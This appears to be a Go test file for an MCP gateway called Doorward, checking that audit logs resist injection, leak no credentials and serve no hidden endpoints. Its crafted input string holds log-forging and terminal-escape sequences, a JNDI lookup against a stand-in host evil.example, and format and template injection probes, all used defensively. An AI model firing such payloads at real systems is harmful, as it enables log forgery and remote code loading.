package app_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"doorward/internal/admin"
	"doorward/internal/app"
	"doorward/internal/audit"
	"doorward/internal/config"
	"doorward/internal/gatetest"
)

// crafted would be more than one line, another field, a terminal's order or a template,
// where a log took them for what they are not (security cases LOG-01 to LOG-04).
const crafted = "a\r\nb\u2028c\u0085d\x1b[2J\x1b]52;c;Zm9yZ2Vk\a\u009b2J\u202e\",\"decision\":\"allow\",\"x\":\" decision=allow %s%n%x ${jndi:ldap://evil.example/a} {{7*7}}"

// LOG-01 to LOG-05, LOG-11: what clients and upstreams send is one line of the audit log
// and at most one of the other, which the harness reads; a long argument is on record by
// its length and digest. Baggage goes nowhere.
func TestLOG01_LOG03_LOG04_LOG05_LOG11_NoTextIsMoreThanALine(t *testing.T) {
	text, err := json.Marshal(crafted)
	if err != nil {
		t.Fatal(err)
	}
	const baggage = "CANARY-baggage-0123456789"
	inEras(t, func(t *testing.T, h *house) {
		h.up.Set(gatetest.Script{
			Tools:  rawTools("echo", "get_weather", "delete_all"),
			Errors: map[string]json.RawMessage{"get_weather": fmt.Appendf(nil, `{"code":-32603,"message":%s,"data":%s}`, text, text)},
		})
		h.Hide(baggage)
		before := len(h.Exchanges())
		sent := []*gatetest.Reply{
			h.alice.Post(h.alice.Request("1", "tools/call", fmt.Sprintf(`"name":%s,"arguments":{}`, text)), "Mcp-Name", "-"),
			h.alice.Call("up__get_weather", fmt.Sprintf(`{%s:%s}`, text, text)),
			h.alice.Post(h.alice.Request("3", "resources/read", fmt.Sprintf(`"uri":%s`, text)), "Mcp-Name", "-"),
			h.alice.Call("up__echo", `{"a":"`+strings.Repeat("long argument ", 1<<20/14)+`"}`, "Mcp-Name", "up__echo", "Mcp-Method", "tools/call"),
			h.alice.Call("up__echo", `{}`, "User-Agent", "x \" decision=allow \u202e\u009b2J", "baggage", "token="+baggage+","+strings.Repeat("k=v,", 1000),
				"tracestate", baggage+"=1", "traceparent", "00-"+baggage),
		}
		got := h.Exchanges()[before:]
		if len(got) < len(sent) {
			t.Errorf("%d records of %d calls", len(got), len(sent))
		}
		for i := range got {
			r := &got[i]
			for _, c := range string(r.AppendJSON(nil)) {
				if c < ' ' || c > '~' {
					t.Errorf("U+%04X is in the record of %s", c, r.Exchange)
				}
			}
			if strings.Contains(string(r.Sealed), "long argument") || len(r.AppendJSON(nil)) > 64<<10 {
				t.Errorf("a record of %d bytes", len(r.AppendJSON(nil)))
			}
		}
		long := h.Records(audit.Query{Exchange: sent[3].Exchange})
		if len(long) == 0 || long[0].Arguments == ([32]byte{}) || long[len(long)-1].BytesIn < 1<<20-100 || len(long[0].Sealed) > 0 {
			t.Errorf("of the long argument there is not its digest and length on record alone: %d records", len(long))
		}
		for _, s := range h.up.Seen("") {
			for _, name := range []string{"Baggage", "Tracestate", "Traceparent"} {
				if s.Header.Get(name) != "" {
					t.Errorf("LOG-11: the upstream got %s: %.80s", name, s.Header.Get(name))
				}
			}
		}
	})
}

// LOG-07: what an upstream echoes of the credential that Doorward showed it is neither in
// an answer nor in a log.
func TestLOG07_AnUpstreamEchoesItsCredential(t *testing.T) {
	const canary = "CANARY-upstream-key-8d1fQ"
	said := "Authorization: Bearer " + canary + " at postgres://app:" + canary + "@db/x"
	up := gatetest.Upstream(t, gatetest.Script{
		Tools:   rawTools("echo", "fails", "breaks"),
		Answers: map[string]json.RawMessage{"echo": fmt.Appendf(nil, `{"content":[{"type":"text","text":%q}]}`, said)},
		Errors:  map[string]json.RawMessage{"fails": fmt.Appendf(nil, `{"code":-32000,"message":%q}`, said)},
		Behave:  map[string]string{"breaks": "garbage"},
	})
	secret := filepath.Join(t.TempDir(), "key")
	if err := os.WriteFile(secret, []byte(canary), 0o600); err != nil {
		t.Fatal(err)
	}
	gw := gatetest.Gateway(t, `secrets: {up: {from: "file:`+secret+`"}}
upstreams: {up: {url: "`+up.URL()+`", credential: {bearer: up}}}
`, nil)
	gw.Hide(canary)
	gw.Approve("")
	for _, version := range eras {
		c := gw.As("alice").Open(version)
		for _, tool := range []string{"echo", "fails", "breaks"} {
			r := c.Call("up__"+tool, `{}`)
			gw.Told(r.Header, r.Body)
			if strings.Contains(string(r.Body), canary) {
				t.Errorf("%s in %s: the client reads %s", tool, version, r)
			}
		}
	}
	if up.Count("tools/call") == 0 || !strings.Contains(fmt.Sprint(up.Seen("tools/call")[0].Header), canary) {
		t.Error("the upstream was not shown the key")
	}
}

// LOG-06: at the most talkative level neither the log, the metrics nor what a client reads
// of a refusal has anything of what was said in a call, or of the key that it came with.
func TestLOG06_NothingOfACallIsTold(t *testing.T) {
	h := newHouse(t, eras[1])
	const canary = "CANARY-argument-3hT7wq"
	for _, r := range []*gatetest.Reply{
		h.alice.Call("up__echo", `{"a":"`+canary+`"}`),
		h.alice.Call("up__delete_all", `{"a":"`+canary+`"}`),
		h.alice.Call("up__none", `{"a":"`+canary+`"}`),
		h.alice.Post([]byte(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"up__echo","arguments":{"a":"` + canary + `"}`)),
	} {
		if text := string(r.Body); !r.OK() && (strings.Contains(text, canary) || strings.Contains(text, h.alice.Key)) {
			t.Errorf("a refusal repeats it: %s", r)
		}
	}
	scrape := httptest.NewRecorder()
	h.App.Metrics().ServeHTTP(scrape, httptest.NewRequest(http.MethodGet, "/metrics", http.NoBody))
	for where, text := range map[string]string{"log": h.Log(), "metrics": scrape.Body.String()} {
		if text == "" || strings.Contains(text, canary) || strings.Contains(text, h.alice.Key) {
			t.Errorf("the %s of %d bytes is empty or has the argument or the key", where, len(text))
		}
	}
}

// LOG-14: the record of a change of the configuration says that there was one, and who
// asked; neither it nor the log repeats a secret, of a change that was refused either.
func TestLOG14_TheRecordOfAChange(t *testing.T) {
	const first, second, inURL = "CANARY-first-9dK2", "CANARY-second-4xM8", "CANARY-url-7vLd4c"
	up := gatetest.Upstream(t, gatetest.Script{Tools: rawTools("echo")})
	dir, key := t.TempDir(), filepath.Join(t.TempDir(), "key")
	write := func(path, text string) {
		t.Helper()
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(key, first)
	yaml := `version: 1
data_dir: data
listen: {address: "127.0.0.1:0"}
secrets: {up: {from: "file:` + key + `"}}
upstreams:
  up: {url: "` + up.URL() + `", credential: {bearer: up}}
`
	gw := gatetest.GatewayAt(t, dir, yaml, nil)
	gw.Hide(first)
	gw.Hide(second)
	write(key, second)
	write(filepath.Join(dir, "doorward.yaml"), yaml+"telemetry: {log: {level: debug}}\n")
	if err := gw.App.Reload(t.Context(), "uid:7"); err != nil {
		t.Fatal(err)
	}
	write(filepath.Join(dir, "doorward.yaml"), yaml+"  two: {url: \"https://user:"+inURL+"@a.example/mcp\"}\n")
	if err := gw.App.Reload(t.Context(), "uid:7"); err == nil || strings.Contains(err.Error(), inURL) {
		t.Errorf("a secret in a URL is taken, or repeated: %v", err)
	}
	reloaded, refused := gw.Records(audit.Query{Event: "config.reload"}), gw.Records(audit.Query{Event: "config.refused"})
	if len(reloaded) == 0 || len(refused) == 0 || reloaded[0].Actor != "uid:7" || refused[0].Actor != "uid:7" {
		t.Fatalf("on record: %+v, %+v", reloaded, refused)
	}
	text := gw.Log()
	for _, r := range append(reloaded, refused...) {
		text += string(r.AppendJSON(nil))
	}
	for _, secret := range []string{first, second, inURL} {
		if strings.Contains(text, secret) {
			t.Errorf("%s is in the log or on record", secret)
		}
	}
}

// LOG-12: whichever way a call fails inside, the client reads a code and a sentence; the
// harness reads what it was told.
func TestLOG12_ClientsReadNothingOfTheInside(t *testing.T) {
	behave := map[string]string{"t0": "wrong id", "t1": "garbage", "t2": "duplicate", "t3": "redirect", "t4": "drop", "t5": "unauthorized", "t6": "html"}
	names := make([]string, 0, len(behave))
	for name := range behave {
		names = append(names, name)
	}
	up := gatetest.Upstream(t, gatetest.Script{Tools: rawTools(names...), Behave: behave})
	gone := httptest.NewServer(gatetest.Upstream(t, gatetest.Script{Tools: rawTools("echo")}))
	defer gone.Close()
	gw := gatetest.Gateway(t, "upstreams: {up: {url: \"${up}\", limits: {timeout: 10s}}, gone: {url: \""+gone.URL+"/mcp\"}}\n", map[string]*gatetest.UP{"up": up})
	gw.Approve("")
	c := gw.As("alice").Open(eras[1])
	gone.Close()
	for _, tool := range append(names, "up__none") {
		name := "up__" + tool
		if r := c.Call(name, `{}`); r.OK() || r.Refusal == "" {
			t.Errorf("%s: %s", name, r)
		}
	}
	if r := c.Call("gone__echo", `{}`); r.OK() || r.Refusal == "" || strings.Contains(string(r.Body), "refused:") || strings.Contains(string(r.Body), "127.0.0.1") {
		t.Errorf("of an upstream that is gone the client reads %s", r)
	}
	for _, body := range []string{`{`, `[]`, `{"jsonrpc":"2.0","id":1,"method":"x/y","params":{}}`, `{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{"cursor":"x"}}`} {
		if r := c.Post([]byte(body)); r.OK() {
			t.Errorf("%s: %s", body, r)
		}
	}
}

// LOG-13: where clients connect there is nothing but MCP and how to get a token.
func TestLOG13_NothingElseIsServed(t *testing.T) {
	h := newHouse(t, eras[0])
	base := "http://" + h.Address()
	for _, key := range []string{"", h.alice.Key} {
		for _, path := range []string{"/metrics", "/debug/pprof/", "/debug/pprof/heap", "/debug/vars", "/admin", "/v1/status", "/v1/log/level", "/.git/config", "/config", "/doorward.yaml", "/healthz", "/"} {
			for _, method := range []string{http.MethodGet, http.MethodPost} {
				req, err := http.NewRequestWithContext(t.Context(), method, base+path, http.NoBody)
				if err != nil {
					t.Fatal(err)
				}
				if key != "" {
					req.Header.Set("Authorization", "Bearer "+key)
				}
				res, err := http.DefaultClient.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				_ = res.Body.Close()
				if s := res.StatusCode; s != http.StatusNotFound && s != http.StatusUnauthorized && s != http.StatusMethodNotAllowed {
					t.Errorf("%s %s (key %t): got %d", method, path, key != "", s)
				}
			}
		}
	}
}

// LOG-18: a level is set for at most 15 minutes, on record, and goes back by itself;
// a reload changes nothing of it.
func TestLOG18_TheLevelGoesBackByItself(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "doorward.yaml")
	if err := os.WriteFile(path, []byte("version: 1\ndata_dir: data\nlisten: {address: \"127.0.0.1:0\"}\nupstreams: {}\ntelemetry: {log: {level: error}}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	j, err := app.Logger(t.Output(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	a, err := app.New(app.Options{Config: cfg, Path: path, Version: "test", Log: j.Logger, Journal: j})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := a.Close(); err != nil {
			t.Error(err)
		}
	}()
	is := func(level string, raised bool) {
		t.Helper()
		if got, err := a.LogLevel(t.Context()); err != nil || got.Level != level || got.Configured != "error" || got.Until.IsZero() == raised {
			t.Errorf("the level is %+v, %v; want %s", got, err, level)
		}
	}
	is("error", false)
	for _, bad := range []admin.LogLevelRequest{{Level: "trace", For: time.Minute}, {Level: "debug"}, {Level: "debug", For: -1}, {Level: "debug", For: 15*time.Minute + 1}} {
		if _, err := a.SetLogLevel(t.Context(), "uid:1", bad); err == nil {
			t.Errorf("%+v is taken", bad)
		}
	}
	is("error", false)
	set := func(req admin.LogLevelRequest) {
		t.Helper()
		if _, err := a.SetLogLevel(t.Context(), "uid:1", req); err != nil {
			t.Fatal(err)
		}
	}
	set(admin.LogLevelRequest{Level: "debug", For: 15 * time.Minute})
	if err := a.Reload(t.Context(), "test"); err != nil {
		t.Fatal(err)
	}
	is("debug", true)
	set(admin.LogLevelRequest{})
	is("error", false)
	set(admin.LogLevelRequest{Level: "debug", For: 15 * time.Minute})
	set(admin.LogLevelRequest{Level: "info", For: time.Millisecond})
	want := []string{"uid:1 debug for 15m0s begun", "uid:1 as configured begun", "uid:1 debug for 15m0s begun", "uid:1 info for 1ms begun", "doorward error: the time is over ok"}
	var got []string
	eventually(t, "the level goes back on record", func() bool {
		got = nil
		err := audit.Read(t.Context(), filepath.Join(dir, "data", "audit"), audit.Query{Event: "log.level"}, func(r *audit.Record) error {
			got = append(got, r.Actor+" "+r.Detail+" "+r.Status)
			return nil
		})
		return err == nil && len(got) == len(want)
	})
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("on record: %q", got)
	}
	is("error", false)
}

// LOG-20: of a flood of denied calls every one is on record and counted; the other log
// has no line of any.
func TestLOG20_DeniedCallsAreAllOnRecord(t *testing.T) {
	h := newHouse(t, eras[1])
	const flood = 300
	logged, before := len(h.Log()), len(h.Records(audit.Query{Code: "policy.denied"}))
	for range flood {
		if r := h.alice.Call("up__delete_all", `{}`); r.Refusal != "policy.denied" {
			t.Fatalf("got %s", r)
		}
	}
	if n := len(h.Records(audit.Query{Code: "policy.denied"})) - before; n != flood {
		t.Errorf("%d of %d are on record", n, flood)
	}
	if more := len(h.Log()) - logged; more > 4<<10 {
		t.Errorf("the log grew by %d bytes", more)
	}
	scrape := httptest.NewRecorder()
	h.App.Metrics().ServeHTTP(scrape, httptest.NewRequest(http.MethodGet, "/metrics", http.NoBody))
	if want := fmt.Sprintf("doorward_refusals_total{code=\"policy.denied\"} %d\n", before+flood); !strings.Contains(scrape.Body.String(), want) {
		t.Errorf("the metrics do not say %s", want)
	}
}
